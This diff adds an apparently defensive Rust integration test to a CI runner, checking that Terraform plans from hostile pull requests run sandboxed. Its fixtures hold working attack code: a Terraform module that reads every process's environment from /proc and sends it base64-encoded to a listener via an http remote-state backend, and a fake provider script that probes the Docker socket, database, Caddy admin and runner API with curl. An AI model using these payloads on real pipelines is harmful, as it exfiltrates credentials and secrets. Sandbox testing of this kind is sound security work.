@@ -804,3 +804,276 @@ async fn a_secret_in_a_failed_steps_error_is_masked_there_and_in_the_jobs_error(
     }
     runner.stop().await;
 }
+
+/// A module that reads every environment it can find through `/proc` (its own, its
+/// parent's, every process's) and sends what it read to `listener` during the plan,
+/// through a `terraform_remote_state` data source with an http backend.
+fn exfiltrating_module(listener: &str) -> String {
+    format!(
+        r#"
+variable "image_url" {{
+  type = string
+}}
+
+locals {{
+  ppid   = split(" ", file("/proc/self/stat"))[3]
+  own    = file("/proc/self/environ")
+  parent = try(file("/proc/${{local.ppid}}/environ"), "")
+  every  = join("|", [for path in try(fileset("/proc", "*/environ"), []) : try(file("/proc/${{path}}"), "")])
+  found  = replace("${{local.own}}|${{local.parent}}|${{local.every}}", "\u0000", "\n")
+}}
+
+data "terraform_remote_state" "exfiltrate" {{
+  backend = "http"
+  config = {{
+    address = "http://{listener}/state?d=${{base64encode(local.found)}}"
+  }}
+}}
+
+output "found" {{
+  value = local.found
+}}
+"#
+    )
+}
+
+/// A provider shipped inside the pull request: when Terraform starts it, it tries the
+/// engine socket, the runner's database, Caddy's admin API, the runner's API and the
+/// provider cache, and answers with one line naming what it reached (and every
+/// environment it could read), which Terraform quotes in its error.
+fn hostile_provider(database: &Path, caddy_admin: &str, runner_api: &str, cache: &Path) -> String {
+    format!(
+        r#"#!/bin/sh
+report=""
+try() {{ if "$@" >/dev/null 2>&1; then report="$report $name=REACHED"; else report="$report $name=refused"; fi; }}
+name=engine try curl -fsS -m 2 --unix-socket /var/run/docker.sock http://engine/version
+name=database try cat {database}
+name=caddy try curl -fsS -m 2 {caddy_admin}/config/
+name=api try curl -fsS -m 2 {runner_api}/metrics
+name=cache try touch {cache}/planted
+environ=$(cat /proc/*/environ 2>/dev/null | tr '\000' ' ')
+echo "hostile-report$report environ: $environ"
+"#,
+        database = database.display(),
+        cache = cache.display(),
+    )
+}
+
+/// An address of this host other than loopback: the host's services as a container or a
+/// sandbox on another network would see them.
+fn host_address() -> String {
+    let output = Command::new("hostname").arg("-I").output().expect("hostname -I");
+    String::from_utf8_lossy(&output.stdout)
+        .split_whitespace()
+        .find(|a| a.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| !ip.is_loopback()))
+        .expect("this host has a non-loopback IPv4 address")
+        .to_owned()
+}
+
+/// Counts the requests a listener on a host address receives, and keeps their first lines.
+async fn listen_on_host() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
+    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+    let listener = tokio::net::TcpListener::bind((host_address(), 0)).await.expect("bind");
+    let address = listener.local_addr().expect("addr").to_string();
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let sink = std::sync::Arc::clone(&seen);
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let mut buffer = vec![0u8; 65536];
+            let read = stream.read(&mut buffer).await.unwrap_or(0);
+            sink.lock()
+                .expect("lock")
+                .push(String::from_utf8_lossy(&buffer[..read]).into_owned());
+            let _ = stream
+                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
+                .await;
+        }
+    });
+    (address, seen)
+}
+
+#[tokio::test]
+async fn a_hostile_pull_requests_terraform_reaches_no_secret_file_socket_or_neighbour_of_the_runner() {
+    busybox_image();
+    let registry = required_env(
+        "RUNNER_TEST_REGISTRY",
+        "start a registry with scripts/services.sh start",
+    );
+    let terraform = required_env("TERRAFORM_BIN", "scripts/services.sh install builds one");
+    let caddy_admin = required_env("RUNNER_TEST_CADDY_ADMIN", "scripts/services.sh start runs Caddy");
+    let unique = format!("{}{}", std::process::id(), free_port());
+    let project = format!("sandboxed{unique}");
+    let image = format!("runner-sandboxed-{unique}");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (listener, requests) = listen_on_host().await;
+    let api_port = free_port();
+    let runner_api = format!("http://{}:{api_port}", host_address());
+    let cache = dir.path().join("work").join(".terraform-plugins");
+
+    let repo_dir = tempfile::tempdir().expect("tempdir");
+    let repo = repo_dir.path().to_owned();
+    webapp_repo(&repo, HOSTILE_DOCKERFILE);
+    std::fs::create_dir_all(repo.join("infra")).expect("mkdir");
+    std::fs::write(repo.join("infra/main.tf"), exfiltrating_module(&listener)).expect("write");
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "--quiet", "-m", "read the environment"]);
+    let reads_proc = git(&repo, &["rev-parse", "HEAD"]);
+    let plugin_dir = repo.join("infra/terraform.d/plugins/example.com/hostile/evil/1.0.0/linux_amd64");
+    std::fs::create_dir_all(&plugin_dir).expect("mkdir");
+    let plugin = plugin_dir.join("terraform-provider-evil_v1.0.0");
+    std::fs::write(
+        &plugin,
+        hostile_provider(&dir.path().join("runner.db"), &caddy_admin, &runner_api, &cache),
+    )
+    .expect("write");
+    std::fs::set_permissions(&plugin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
+    std::fs::write(
+        repo.join("infra/main.tf"),
+        "variable \"image_url\" {\n  type = string\n}\n\nterraform {\n  required_providers {\n    evil = {\n      source  = \"example.com/hostile/evil\"\n      version = \"1.0.0\"\n    }\n  }\n}\n\nresource \"evil_thing\" \"x\" {}\n",
+    )
+    .expect("write");
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "--quiet", "-m", "a provider of our own"]);
+    let ships_provider = git(&repo, &["rev-parse", "HEAD"]);
+    let _cleanup = EngineCleanup {
+        container: format!("runner-{project}-production"),
+        references: vec![format!("{image}:*")],
+    };
+
+    let fake = FakeGitHub::default();
+    let api = fake.start().await;
+    let mut config = with_github(
+        approve_forks(pipeline_config(
+            dir.path(),
+            &project,
+            &repo,
+            &image,
+            &registry,
+            free_port(),
+            20,
+        )),
+        &api,
+        false,
+    );
+    config.server.listen = Some(format!("0.0.0.0:{api_port}"));
+    config.server.work_dir = Some(dir.path().join("work"));
+    config.dashboard.public_url = None;
+    config.queue = config::Queue::default();
+    let secrets = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
+        pairs.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
+    };
+    let project_config = &mut config.projects[0];
+    project_config.build.as_mut().expect("build").secrets = secrets(&[("DEPLOY_KEY", "BUILD_SECRET")]);
+    project_config.terraform = Some(config::Terraform {
+        secret_env: secrets(&[("CLOUD_SECRET", "DEPLOY_CLOUD_SECRET")]),
+        secret_vars: secrets(&[("db_password", "DB_PASSWORD")]),
+        plan_pull_requests: true,
+        ..config::terraform("infra", &dir.path().join("state.tfstate"))
+    });
+    let config_path = dir.path().join("runner.toml");
+    config::write(&config_path, config);
+    let mut env: Vec<(&str, &str)> = vec![("TERRAFORM_BIN", &terraform), ("REGISTRY_USER", "deployer")];
+    env.extend(RUNNER_SECRETS.iter().copied());
+    let mut runner = Runner::start_with_env(&config_path, &env);
+    let base = runner.base.clone();
+    let client = reqwest::Client::new();
+    let (webhook_secret, admin) = (RUNNER_SECRETS[0].1, RUNNER_SECRETS[1].1);
+
+    let mut surfaces: Vec<(String, String)> = Vec::new();
+    // The same commits from a fork (approved by an admin) and from a branch of the
+    // repository itself (run without approval under the default policy).
+    for (head, sha) in [
+        (FORK, &reads_proc),
+        (FORK, &ships_provider),
+        (REPOSITORY, &reads_proc),
+        (REPOSITORY, &ships_provider),
+    ] {
+        let body = pull_request("synchronize", Some(head), sha);
+        let response = client
+            .post(format!("{base}/webhooks/github"))
+            .header("content-type", "application/json")
+            .header("x-github-event", "pull_request")
+            .header("x-github-delivery", unique_delivery_id())
+            .header("x-hub-signature-256", sign(webhook_secret, &body))
+            .body(body)
+            .send()
+            .await
+            .expect("POST");
+        let job_id = queued(response).await;
+        if head == FORK {
+            let approve = client
+                .post(format!("{base}/api/jobs/{job_id}/approve"))
+                .bearer_auth(admin)
+                .send()
+                .await
+                .expect("approve");
+            assert_eq!(approve.status(), 200);
+        }
+        let mut job = Value::Null;
+        for _ in 0..1800 {
+            job = client
+                .get(format!("{base}/api/jobs/{job_id}"))
+                .send()
+                .await
+                .expect("GET")
+                .json()
+                .await
+                .expect("json");
+            if matches!(job["state"].as_str(), Some("succeeded" | "failed" | "cancelled")) {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let log = client
+            .get(format!("{base}/api/jobs/{job_id}/logs"))
+            .send()
+            .await
+            .expect("GET")
+            .text()
+            .await
+            .expect("text");
+        assert_eq!(
+            job["state"], "failed",
+            "the hostile plan fails in the sandbox: {job}\n{log}"
+        );
+        assert!(log.contains("terraform runs in a sandbox (untrusted"), "{log}");
+        if sha == &reads_proc {
+            // The plan did run the module and did try the listener: the checks can fail.
+            assert!(log.contains(&listener), "the module tried to send to {listener}: {log}");
+        } else {
+            let report = log
+                .lines()
+                .find(|line| line.contains("hostile-report"))
+                .unwrap_or_else(|| panic!("the shipped provider ran and reported: {log}"));
+            for target in ["engine", "database", "caddy", "api", "cache"] {
+                assert!(
+                    report.contains(&format!("{target}=refused")),
+                    "the provider reached the {target}: {report}"
+                );
+            }
+        }
+        surfaces.push((format!("job {job_id}"), job.to_string()));
+        surfaces.push((format!("log of job {job_id}"), log));
+    }
+    assert!(
+        requests.lock().expect("lock").is_empty(),
+        "the listener on a host address was reached: {:?}",
+        requests.lock().expect("lock")
+    );
+    assert!(
+        !cache.join("planted").exists(),
+        "the provider wrote into the provider cache"
+    );
+    let reports: Vec<String> = fake.requests().iter().map(|r| r.body.to_string()).collect();
+    surfaces.push(("GitHub reports".into(), reports.join("\n")));
+    runner.terminate();
+    surfaces.push(("runner log".into(), runner.log_text()));
+    surfaces.push(("database".into(), crate::common::database::stored_text(dir.path())));
+    for (name, value) in RUNNER_SECRETS {
+        for form in smuggled_forms(value) {
+            for (surface, text) in &surfaces {
+                assert!(!text.contains(&form), "{name} ({form}) is in the {surface}");
+            }
+        }
+    }
+}
